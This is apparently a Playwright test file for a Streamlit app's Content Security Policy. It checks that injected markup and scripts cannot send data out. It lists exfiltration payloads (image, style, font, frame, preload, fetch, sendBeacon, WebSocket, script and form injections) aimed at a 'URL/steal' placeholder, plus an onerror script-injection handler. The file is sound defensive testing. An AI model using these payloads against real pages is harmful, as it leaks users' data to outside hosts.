"""The content policy lets Streamlit work, and nothing out, in a real browser."""

from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, Page, expect
from starlette.types import Receive, Scope, Send

from app.api.routes.improving.datasets import StepOut
from tests.browser.conftest import Interface
from tests.browser.gestures import blocked_in, open_page
from tests.serving import serving
from tests.ui.stand_in.improvement import job
from ui.words.texts import words

ZH = words("zh")
# What markup may do that gets through all the same, with the address of somebody who waits.
WAYS_OUT = {
    "image": """<img src="URL/steal?text=secret">""",
    "image by style": """<div style="background-image: url('URL/steal'); width: 9px">x</div>""",
    "style sheet": """<link rel="stylesheet" href="URL/steal">""",
    "imported style": """<style>@import "URL/steal";</style>""",
    "font": """<style>@font-face { font-family: F; src: url("URL/steal"); }
        .f { font-family: F; }</style><p class="f">secret</p>""",
    "frame": """<iframe src="URL/steal"></iframe>""",
    "object": """<object data="URL/steal"></object>""",
    "embedded": """<embed src="URL/steal">""",
    "video": """<video src="URL/steal" autoplay muted></video>""",
    "SVG image": """<svg><image href="URL/steal"/></svg>""",
    "preloaded": """<link rel="preload" as="image" href="URL/steal">""",
}
SCRIPTED = {
    "fetch": "fetch('URL/steal').catch(() => 0)",
    "beacon": "navigator.sendBeacon('URL/steal', 'secret')",
    "websocket": "new WebSocket('URL/steal'.replace('http', 'ws'))",
    "script": "document.head.append(Object.assign(document.createElement('script'),"
    " {src: 'URL/steal'}))",
    "form": "(() => { const f = document.createElement('form'); f.action = 'URL/steal';"
    " document.body.append(f); f.submit(); })()",
}


@dataclass(slots=True)
class Thief:
    """Somebody elsewhere, and what they were asked. A browser may connect ahead of a frame or form
    that it then forbids, and say nothing."""

    url: str = ""
    asked: list[str] = field(default_factory=list)

    async def __call__(self, scope: Scope, _receive: Receive, send: Send) -> None:
        self.asked.append(str(scope.get("path")))
        await send({"type": "http.response.start", "status": 204, "headers": []})
        await send({"type": "http.response.body"})


@pytest.fixture
def thief() -> Iterator[Thief]:
    waiting = Thief()
    with serving(waiting) as waiting.url:
        yield waiting


def test_nothing_that_the_pages_need_is_blocked(interface: Interface, page: Page) -> None:
    """The fixture looks at what was blocked. Components, fonts of tables, and dialogs are here."""
    page.goto(interface.url)
    for name in ("documents", "review", "evaluation", "status"):
        open_page(page, ZH[f"page.{name}"])
        expect(page.get_by_role("heading", name=ZH[f"page.{name}"]).first).to_be_visible()
        expect(page.get_by_test_id("stSkeleton")).to_have_count(0)
        expect(page.get_by_test_id("stException")).to_have_count(0)
    open_page(page, ZH["page.review"])
    page.get_by_role("tab", name="导出训练数据").click()
    expect(page.get_by_role("spinbutton").first).to_be_visible()


def test_a_chart_is_drawn(interface: Interface, page: Page) -> None:
    """Vega compiles expressions by `eval` unless it is told not to."""
    interface.application.jobs = [job("train", state="running", stage="training")]
    interface.application.curve = [
        StepOut(step=n, steps=9, loss=2 / n, seconds_left=61) for n in (1, 2)
    ]
    page.goto(f"{interface.url}/review")
    page.get_by_role("tab", name=ZH["review.tab_train"], exact=True).click()
    line = page.locator(".stVegaLiteChart svg .mark-line path")
    expect(line.first).to_be_visible()


@pytest.mark.parametrize("way", WAYS_OUT)
def test_markup_that_gets_through_sends_nothing(
    interface: Interface, browser: Browser, thief: Thief, way: str
) -> None:
    with browser.new_context(locale="zh-CN") as context:
        blocked, page = blocked_in(context), context.new_page()
        page.goto(interface.url)
        expect(page.get_by_test_id("stChatInput")).to_be_visible()
        html = WAYS_OUT[way].replace("URL", thief.url)
        with page.expect_console_message(lambda m: "Content Security Policy" in m.text):
            page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", html)
        assert blocked
        assert thief.asked == []


@pytest.mark.parametrize("way", SCRIPTED)
def test_a_script_that_gets_through_reaches_nobody(
    interface: Interface, browser: Browser, thief: Thief, way: str
) -> None:
    with browser.new_context(locale="zh-CN") as context:
        page = context.new_page()
        page.goto(interface.url)
        expect(page.get_by_test_id("stChatInput")).to_be_visible()
        with page.expect_console_message(lambda m: "Content Security Policy" in m.text):
            page.evaluate(SCRIPTED[way].replace("URL", thief.url))
        assert thief.asked == []


def test_without_the_policy_it_would_be_sent(browser: Browser, thief: Thief) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        page.set_content("<p>no policy</p>")
        for html in WAYS_OUT.values():
            page.evaluate(
                "html => document.body.insertAdjacentHTML('beforeend', html)",
                html.replace("URL", thief.url).replace("/steal", "/sent"),
            )
        page.wait_for_load_state("networkidle")
        assert len(thief.asked) >= len(WAYS_OUT) - 2, thief.asked


def test_no_script_runs_that_is_in_the_page(interface: Interface, browser: Browser) -> None:
    with browser.new_context(locale="zh-CN") as context:
        blocked, page = blocked_in(context), context.new_page()
        page.goto(interface.url)
        expect(page.get_by_test_id("stChatInput")).to_be_visible()
        handler = "<img src='data:,' onerror='window.stolen = 1'>"
        with page.expect_console_message(lambda m: "Content Security Policy" in m.text):
            page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", handler)
        assert page.evaluate("window.stolen") is None
        assert blocked
